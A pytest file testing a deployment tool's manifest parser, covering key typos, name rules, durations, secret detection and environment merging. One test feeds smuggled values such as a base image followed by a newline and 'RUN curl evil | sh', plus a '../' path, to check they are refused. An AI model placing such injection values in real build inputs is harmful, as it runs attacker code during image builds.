from pathlib import Path

import pytest

from plat.config import Manifest, load_manifest, manifest_schema, parse_manifest, slugify
from plat.errors import PlatError
from plat_contract.patterns import parse_duration

F = Path("app/plat.yaml")


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ({"name": "x", "bild": {}}, "plat.yaml: bild: unknown key; did you mean 'build'?"),
        ({"name": "x", "scale": {"min_wram": 1}}, "scale.min_wram: unknown key; did you mean 'min_warm'?"),
        ({"name": "x", "build": {"dokerfile": "D"}}, "build.dokerfile: unknown key; did you mean 'dockerfile'?"),
        ({"name": "x", "zzz": 1}, "known keys: name, runtime"),
        ({"name": "Bad_Name"}, "name: 'Bad_Name' is not DNS-label safe"),
        ({"name": "-x"}, "not DNS-label safe"),
        ({"name": "a" * 64}, "not DNS-label safe"),
        ({}, "name: required key is missing"),
        ({"name": "x", "port": "80"}, "port: "),
        ({"name": "x", "port": 70000}, "port: "),
        ({"name": "x", "health": "healthz"}, "health: expected a URL path starting with '/'"),
        ({"name": "x", "scale": {"idle_timeout": "soon"}}, "scale.idle_timeout"),
        ({"name": "x", "scale": {"min_warm": -1}}, "scale.min_warm"),
        ({"name": "x", "resources": {"memory": "lots"}}, "resources.memory: expected a size"),
        ({"name": "x", "build": {"args": {"NPM_TOKEN": "s3cret"}}}, "looks like a secret"),
        ({"name": "x", "env": {"A": 1}}, "env.A"),
    ],
)
def test_manifest_errors_name_file_key_and_expectation(data: dict, expected: str) -> None:
    with pytest.raises(PlatError) as info:
        parse_manifest(data, F)
    assert str(F) in info.value.message
    assert expected in info.value.message
    assert "plat schema" in (info.value.hint or "")


def test_full_manifest_parses() -> None:
    m = parse_manifest(
        {
            "name": "shop", "runtime": "python-flask", "port": 8000, "health": "/healthz",
            "build": {"dockerfile": "Dockerfile.prod", "context": ".", "args": {"MODE": "prod"},
                      "base_image": "python:3.12", "platform": "linux/amd64", "frontend": "web"},
            "env": {"LOG_LEVEL": "info"},
            "scale": {"min_warm": 1, "max_instances": 3, "concurrency": 10, "idle_timeout": "30s"},
            "resources": {"memory": "256m", "cpus": 0.5},
            "hosts": ["deploy@h1", "h2:2222"], "registry": "registry.example.com/team",
        },
        F,
    )
    assert m.scale.idle_seconds == 30
    assert m.build.frontend == "web"
    assert m.hosts == ["deploy@h1", "h2:2222"]


def test_defaults() -> None:
    m = Manifest(name="a")
    assert (m.health, m.port, m.scale.min_warm, m.hosts) == ("/", None, 0, [])


def test_not_a_mapping() -> None:
    with pytest.raises(PlatError, match="expected a mapping"):
        parse_manifest(["name"], F)


def test_bad_yaml_names_line(tmp_path: Path) -> None:
    (tmp_path / "plat.yaml").write_text("name: x\nport: [1,\n")
    with pytest.raises(PlatError, match=r"plat.yaml:\d+:\d+: not valid YAML"):
        load_manifest(tmp_path)


def test_missing_manifest_is_none(tmp_path: Path) -> None:
    assert load_manifest(tmp_path) is None


@pytest.mark.parametrize(("text", "slug"), [("My App", "my-app"), ("__x__", "x"), ("", "app"), ("a" * 80, "a" * 63)])
def test_slugify(text: str, slug: str) -> None:
    assert slugify(text) == slug


@pytest.mark.parametrize(("value", "seconds"),
                         [("30s", 30), ("5m", 300), ("1h", 3600), ("250ms", 0.25), (12, 12), ("7", 7)])
def test_parse_duration(value: str | int, seconds: float) -> None:
    assert parse_duration(value) == seconds


def test_schema_lists_every_section() -> None:
    schema = manifest_schema()
    assert {"name", "runtime", "port", "health", "build", "env", "scale", "resources", "hosts", "registry"} \
        <= set(schema["properties"])
    assert schema["additionalProperties"] is False


@pytest.mark.parametrize(("build", "key"), [
    ({"base_image": "python:3.12\nRUN curl evil | sh"}, "build.base_image"),
    ({"base_image": "python:3.12 AS x"}, "build.base_image"),
    ({"platform": "linux/amd64\nRUN x"}, "build.platform"),
    ({"frontend": "../elsewhere"}, "build.frontend"),
    ({"frontend": "web\nRUN x"}, "build.frontend"),
    ({"args": {"A B": "1"}}, "build.args"),
    ({"args": {"A": "x\x00"}}, "build.args.A"),
])
def test_values_bound_for_a_dockerfile_are_one_word(build: dict, key: str) -> None:
    with pytest.raises(PlatError) as err:
        parse_manifest({"name": "x", "build": build}, F)
    assert key in err.value.message


def test_the_scaffold_renderer_refuses_what_plat_yaml_would_have(tmp_path: Path) -> None:
    from plat.builder.context import check_dockerfile_values

    check_dockerfile_values({"app": "shop", "base_image": "registry:5000/py@sha256:" + "a" * 64, "port": 8080,
                             "images": {"node": "node:20-slim"}, "frontend": None, "files": frozenset({"a b"})})
    for bad in ({"base_image": "py\nRUN x"}, {"images": {"node": "node $X"}}, {"frontend": "a'b"}):
        with pytest.raises(PlatError, match="cannot go into a Dockerfile"):
            check_dockerfile_values(bad)


def test_an_environment_overrides_any_app_key_by_one_merge_rule() -> None:
    m = parse_manifest({
        "name": "shop", "env": {"A": "1", "B": "2"}, "scale": {"min_warm": 1, "max_instances": 8},
        "resources": {"memory": "256m"}, "hosts": ["h1", "h2"], "deploy": {"batch": 1, "parallel": 3},
        "environments": {"production": {"env": {"B": "prod"}, "scale": {"min_warm": 6},
                                        "resources": {"cpus": 2}, "hosts": ["p1"], "deploy": {"batch": "50%"}},
                         "staging": {}},
    }, F)
    prod = m.for_environment("production")
    assert prod.env == {"A": "1", "B": "prod"}, "mappings merge key by key"
    assert (prod.scale.min_warm, prod.scale.max_instances) == (6, 8)
    assert (prod.resources.memory, prod.resources.cpus) == ("256m", 2)
    assert prod.hosts == ["p1"], "lists replace"
    assert (prod.deploy.batch, prod.deploy.parallel) == ("50%", 3)
    assert m.for_environment("staging").env == m.env and m.for_environment(None) is m
    assert prod.for_environment("production") == prod, "applying it again changes nothing"
    with pytest.raises(PlatError, match="no environment 'qa'"):
        m.for_environment("qa")


def test_an_environment_is_held_to_the_same_rules_once_merged() -> None:
    base = {"name": "shop", "scale": {"max_instances": 4}}
    with pytest.raises(PlatError) as err:
        parse_manifest({**base, "environments": {"production": {"scale": {"min_warm": 6}}}}, F)
    assert "environments.production.scale" in err.value.message and "min_warm (6) is more than" in err.value.message
    with pytest.raises(PlatError, match=r"environments\.production\.nope: unknown key"):
        parse_manifest({**base, "environments": {"production": {"nope": 1}}}, F)
